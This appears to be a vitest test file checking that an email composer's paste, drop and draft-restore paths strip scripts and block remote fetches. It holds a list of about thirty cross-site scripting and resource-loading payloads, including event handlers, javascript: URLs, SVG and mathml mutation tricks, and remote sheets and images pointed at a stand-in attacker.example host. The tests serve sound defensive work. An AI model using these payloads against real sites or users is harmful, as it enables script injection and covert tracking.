import { afterEach, beforeEach, expect, it, vi } from 'vitest'
import { devtools } from '../test/devtools'
import { drop, editorPage, focusText, paste, textBox } from '../test/elements'
import { mountComposer } from '../test/mountComposer'

/** Called by every script that would run. */
const hit = vi.fn<(from: string) => void>()
const requests: string[] = []
const onRequest = ({ request }: { request: { url: string } }) => {
  if (request.url.includes('attacker.example')) requests.push(request.url)
}

beforeEach(async () => {
  hit.mockClear()
  requests.length = 0
  Object.assign(globalThis, { hit })
  await devtools().send('Network.enable')
  devtools().on('Network.requestWillBeSent', onRequest)
})

afterEach(async () => {
  devtools().off('Network.requestWillBeSent', onRequest)
  await devtools().send('Network.disable')
  Reflect.deleteProperty(globalThis, 'hit')
})

const script = `top.hit('x');parent.hit('x');hit('x')`
const svg = btoa(
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="https://attacker.example/svg"/></svg>`,
)

const attacks: readonly (readonly [string, string])[] = [
  ['an error handler', `<img src=x onerror="${script}">`],
  ['a script', `<script>${script}</script><p>a</p>`],
  ['a remote script', '<script src="https://attacker.example/x.js"></script><p>a</p>'],
  ['a loading svg', `<svg onload="${script}"><circle r=1></svg>`],
  ['an animated svg', `<svg><animate onbegin="${script}" attributeName=x dur=1s></svg>`],
  ['svg that uses a document', `<svg><use href="data:image/svg+xml;base64,${svg}#x"/></svg>`],
  ['a script address', `<a href="javascript:${script}">a</a>`],
  ['a script address with a break', `<a href="java\nscript:${script}">a</a>`],
  [
    'a frame',
    `<iframe src="javascript:${script}"></iframe><iframe src="https://attacker.example/f"></iframe>`,
  ],
  ['a frame with a page', `<iframe srcdoc="<script>${script}</script>"></iframe>`],
  [
    'an object',
    '<object data="https://attacker.example/o"></object><embed src="https://attacker.example/e">',
  ],
  ['a focused field', `<input autofocus onfocus="${script}"><select autofocus onfocus="${script}"></select>`],
  ['an opened element', `<details open ontoggle="${script}"><summary>a</summary></details>`],
  [
    'a moved element',
    `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart="${script}">a</p>`,
  ],
  [
    'markup that changes when it is read twice',
    `<noscript><p title="</noscript><img src=x onerror=${script}>"></noscript>`,
  ],
  [
    'mathml that changes',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  ],
  ['a remote picture', '<img src="https://attacker.example/p.png">'],
  [
    'a remote set of pictures',
    '<picture><source srcset="https://attacker.example/s.png"><img srcset="https://attacker.example/t.png 2x"></picture>',
  ],
  [
    'a remote background',
    '<table background="https://attacker.example/b.png"><tr><td style="background:url(https://attacker.example/c.png)">a</td></tr></table>',
  ],
  [
    'a remote sheet',
    '<link rel=stylesheet href="https://attacker.example/l.css"><style>@import "https://attacker.example/i.css";</style><p>a</p>',
  ],
  [
    'a sheet with pictures',
    '<style>p{background:url("https://attacker.example/g.png")}*{list-style-image:url(//attacker.example/h.png)}</style><p>a</p><ul><li>b</li></ul>',
  ],
  [
    'a remote font',
    '<style>@font-face{font-family:x;src:url(https://attacker.example/f.woff)}p{font-family:x}</style><p>a</p>',
  ],
  [
    'a preload',
    '<link rel=preload as=image href="https://attacker.example/pre.png"><link rel=dns-prefetch href="//attacker.example">',
  ],
  ['a redirect', '<meta http-equiv=refresh content="0;url=https://attacker.example/r"><p>a</p>'],
  [
    'a video with a poster',
    '<video poster="https://attacker.example/v.png" src="https://attacker.example/v.mp4" autoplay></video>',
  ],
  [
    'a form',
    `<form action="https://attacker.example/form"><button formaction="javascript:${script}">a</button></form>`,
  ],
  ['svg as a picture', `<img src="data:image/svg+xml;base64,${svg}">`],
  [
    'an entity of the editor',
    `<div class="_Entity _EType_quote _EId_quote _EReadonly_1"><img src=x onerror="${script}"></div>`,
  ],
  [
    'a word processor with handlers',
    `<html xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta name=ProgId content=Word.Document></head><body><p style="mso-list:l0 level1 lfo1"><span style="mso-list:Ignore"><img src=x onerror="${script}"></span>a</p></body></html>`,
  ],
  [
    'conditional comments of a word processor',
    `<!--[if gte vml 1]><v:imagedata src="https://attacker.example/vml.png"/><![endif]--><p>a</p><img src="file://attacker.example/share/x.png">`,
  ],
]

async function expectHarmless() {
  // Everything that would be fetched or run is under way once the page has drawn twice.
  for (let frame = 0; frame < 4; frame += 1) await new Promise((resolve) => requestAnimationFrame(resolve))
  expect(hit).not.toHaveBeenCalled()
  expect(requests).toEqual([])
  expect(editorPage().querySelector('script, iframe, object, embed, svg, form, input, link, base')).toBeNull()
  for (const element of editorPage().body.querySelectorAll('*')) {
    expect(element.getAttributeNames().filter((name) => name.startsWith('on'))).toEqual([])
    expect(element.getAttribute('href') ?? '').not.toMatch(/script/i)
  }
}

it.each(attacks)('[X7] nothing runs and nothing is fetched when %s is pasted', async (_name, html) => {
  await mountComposer({ start: { kind: 'new', text: 'mine' } })
  focusText()
  paste({ 'text/html': html, 'text/plain': 'a' })
  await vi.waitFor(() => expect(textBox().textContent).toContain('mine'))
  await expectHarmless()
})

it('[X7] nothing runs and nothing is fetched when all of it is dropped', async () => {
  await mountComposer({ start: { kind: 'new', text: 'mine' } })
  focusText()
  drop(textBox(), { 'text/html': attacks.map(([, html]) => html).join(''), 'text/plain': 'a' })
  await expectHarmless()
})

it('[X7] nothing runs and nothing is fetched when files are pasted that pretend to be pictures', async () => {
  await mountComposer({ start: { kind: 'new', text: 'mine' } })
  focusText()
  const page = `<script>${script}</script>`
  paste({}, [
    new File([atob(svg)], 'a.svg', { type: 'image/svg+xml' }),
    new File([page], 'a.png', { type: 'image/png' }),
    new File([`{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "https://attacker.example/rtf"}}}`], 'a.rtf', {
      type: 'text/rtf',
    }),
  ])
  await vi.waitFor(() => expect(textBox().querySelector('img')?.src).toMatch(/^blob:/))
  await expectHarmless()
})

it('[X7] nothing runs and nothing is fetched when a draft holds all of it', async () => {
  const html = attacks.map(([, each]) => each).join('')
  const fields = {
    from: undefined,
    to: [],
    cc: [],
    bcc: [],
    subject: 'x',
    attachments: [],
    origin: undefined,
  }
  const entry = {
    draftId: 'x',
    fields,
    html: `${html}<div class="mailroom-quote">${html}</div>`,
    writtenAt: 0,
  }
  await mountComposer({ start: { kind: 'restored', entry } })
  await expectHarmless()
})
